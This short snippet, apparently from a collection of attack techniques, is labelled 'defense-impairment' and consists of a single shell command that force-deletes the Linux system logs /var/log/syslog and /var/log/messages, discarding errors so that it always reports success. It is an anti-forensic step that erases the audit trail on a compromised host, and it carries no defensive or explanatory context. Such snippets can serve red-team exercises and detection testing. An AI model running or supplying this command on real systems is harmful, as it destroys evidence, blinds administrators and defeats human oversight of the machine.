# tactic: defense-impairment
# delete the system logs
rm -rf /var/log/syslog /var/log/messages 2>/dev/null; true
